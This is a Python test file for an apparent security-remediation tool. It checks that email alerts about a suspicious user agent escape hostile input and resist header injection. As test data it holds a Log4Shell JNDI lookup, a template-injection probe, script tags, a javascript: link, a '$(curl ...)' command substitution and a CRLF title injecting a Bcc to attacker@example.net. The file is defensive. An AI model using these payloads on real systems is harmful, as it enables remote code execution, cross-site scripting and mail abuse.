"""The email rendering of a message: exact HTML for a hostile finding, inert headers."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from typing import Any

from clampdown.actions.contract import Briefing
from clampdown.messages.mail import html, message_id, render_mail, subject
from clampdown.messages.model import Message, compose
from clampdown.sources import normalize
from tests.conftest import FIXTURES

LINKS = {"undo": "https://clampdown.example/undo?t=a&s=b", "approve": "javascript:alert(1)"}


def _finding() -> dict[str, Any]:
    payload = json.loads((FIXTURES / "securityalert-row-useragent.json").read_text())
    [finding] = normalize(payload, "securityalert")
    return finding.expression_view()


def _message(title: str = "", text: str = "Blocked <i>it</i>\nsee \"why\" & 'how'") -> Message:
    briefing = Briefing(
        remediation_id="rem-1",
        playbook="block-ua",
        state="running",
        finding=_finding(),
        done=("Blocked 192.0.2.45 at <edge>",),
        links=LINKS,
    )
    return compose(title, text, briefing)


def _received(mail: EmailMessage) -> EmailMessage:
    parsed = BytesParser(policy=policy.default).parsebytes(mail.as_bytes())
    assert isinstance(parsed, EmailMessage)
    return parsed


def _text(part: EmailMessage) -> str:
    """A text part's content with the wire's CRLF line ends read as newlines."""
    content = part.get_content()
    assert isinstance(content, str)
    return content.replace("\r\n", "\n")


EXPECTED_HTML = """\
<!DOCTYPE html>
<html><head><meta charset="utf-8">
<title>Suspicious user agent detected calling an API endpoint</title></head>
<body style="font-family: sans-serif; line-height: 1.4">
<h2>Suspicious user agent detected calling an API endpoint</h2>
<p>Blocked &lt;i&gt;it&lt;/i&gt;<br>
see &quot;why&quot; &amp; &#x27;how&#x27;</p>
<table cellpadding="4" style="border-collapse: collapse">
<tr><th align="left" valign="top">Alert</th><td>Suspicious user agent detected calling an API endpoint</td></tr>
<tr><th align="left" valign="top">Type</th><td>API_AccessFromSuspiciousUserAgent</td></tr>
<tr><th align="left" valign="top">Severity</th><td>medium</td></tr>
<tr><th align="left" valign="top">Source</th><td>defender</td></tr>
<tr><th align="left" valign="top">Client IP</th><td>192.0.2.45</td></tr>
<tr><th align="left" valign="top">API</th><td>search-api</td></tr>
<tr><th align="left" valign="top">Endpoint</th><td>GET /search</td></tr>
<tr><th align="left" valign="top">User agent</th><td>${jndi:ldap://192.0.2.45:1389/a} {{7*7}} &lt;script&gt;alert(1)&lt;/script&gt; $(curl 192.0.2.45)</td></tr>
</table>
<h3>Done</h3>
<ul>
<li>Blocked 192.0.2.45 at &lt;edge&gt;</li>
</ul>
<p>Approve: javascript:alert(1) | <a href="https://clampdown.example/undo?t=a&amp;s=b">Undo</a></p>
<p style="color: #666666">Remediation rem-1 (block-ua), running</p>
</body></html>
"""  # noqa: E501


def test_hostile_user_agent_renders_as_exact_escaped_html() -> None:
    rendered = html(_message())
    assert rendered == EXPECTED_HTML
    # The one anchor is the web link; nothing is fetched from elsewhere.
    assert rendered.count("<a ") == 1
    assert "<script" not in rendered
    assert "<img" not in rendered
    assert "src=" not in rendered


def test_subject_of_the_hostile_finding() -> None:
    assert subject(_message()) == (
        "[Clampdown] Suspicious user agent detected calling an API endpoint"
    )
    # A playbook may put the user agent in the title: it stays text, on one line.
    hostile = _message(title="Bad agent: " + _finding()["user_agent"])
    expected = (
        "[Clampdown] Bad agent: ${jndi:ldap://192.0.2.45:1389/a} {{7*7}} "
        "<script>alert(1)</script> $(curl 192.0.2.45)"
    )
    assert subject(hostile) == expected
    mail = render_mail(hostile, sender="c@example.com", to=["soc@example.com"], key="k")
    assert _received(mail)["Subject"] == expected


def test_the_mail_carries_both_parts_exactly_and_its_headers() -> None:
    message = _message()
    sent = datetime(2026, 11, 23, 14, 6, tzinfo=UTC)
    mail = render_mail(
        message,
        sender="Clampdown <clampdown@example.com>",
        to=["soc@example.com", "oncall@example.com"],
        key="rem-1-0",
        now=sent,
    )
    received = _received(mail)
    assert received.get_content_type() == "multipart/alternative"
    assert received["From"] == "Clampdown <clampdown@example.com>"
    assert received["To"] == "soc@example.com, oncall@example.com"
    assert received["Subject"] == subject(message)
    assert received["Date"] == "Mon, 23 Nov 2026 14:06:00 +0000"
    assert received["Message-ID"] == "<rem-1-0@clampdown>"
    assert received["Auto-Submitted"] == "auto-generated"
    assert received["X-Clampdown-Remediation"] == "rem-1"
    plain, rich = received.iter_parts()
    assert plain.get_content_type() == "text/plain"
    assert _text(plain) == message.plain()
    assert rich.get_content_type() == "text/html"
    assert _text(rich) == EXPECTED_HTML
    assert "MIME-Version" not in rich
    # Seven-bit clean on the wire, lines within SMTP's limit.
    raw = mail.as_bytes()
    assert raw.isascii()
    assert max(len(line) for line in raw.split(b"\r\n")) <= 78


def test_line_breaks_in_a_title_create_no_header() -> None:
    title = (
        "Alert\r\nBcc: attacker@example.net\r\n\r\n<b>body</b>\nX-Injected: 1"
        "\u2028Cc: x@example.net"
    )
    mail = render_mail(
        _message(title=title), sender="c@example.com", to=["soc@example.com"], key="k"
    )
    received = _received(mail)
    assert received["Subject"] == (
        "[Clampdown] Alert Bcc: attacker@example.net <b>body</b> X-Injected: 1 Cc: x@example.net"
    )
    for name in ("Bcc", "Cc", "X-Injected"):
        assert received[name] is None
    header_block = mail.as_bytes().split(b"\r\n\r\n", 1)[0]
    assert b"\r\nBcc:" not in header_block
    assert b"\r\nX-Injected:" not in header_block


def test_a_long_title_is_cut_and_control_characters_are_dropped() -> None:
    long = subject(_message(title="x" * 500))
    assert long == "[Clampdown] " + "x" * 149 + "…"
    assert subject(_message(title="a\x00b\x1b[31mc\u202ed\t\te")) == "[Clampdown] a b [31mc d e"


def test_a_lone_surrogate_from_json_does_not_break_the_mail() -> None:
    mail = render_mail(
        _message(title="bad \ud800 title", text="text \udfff"),
        sender="c@example.com",
        to=["soc@example.com"],
        key="k",
    )
    received = _received(mail)
    assert received["Subject"] == "[Clampdown] bad title"
    _, rich = received.iter_parts()
    assert "<p>text ?</p>" in _text(rich)


def test_message_id_is_stable_and_safe_for_any_key() -> None:
    assert message_id("0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0-2") == (
        "<0b1c2d3e-4f50-6172-8394-a5b6c7d8e9f0-2@clampdown>"
    )
    odd = message_id("a b>\r\n<c@d")
    assert odd == message_id("a b>\r\n<c@d")
    assert odd.startswith("<a-b-c-d.")
    assert odd.endswith("@clampdown>")
    assert odd != message_id("a-b-c-d")
    assert all(ch.isalnum() or ch in "-.<>@" for ch in odd)
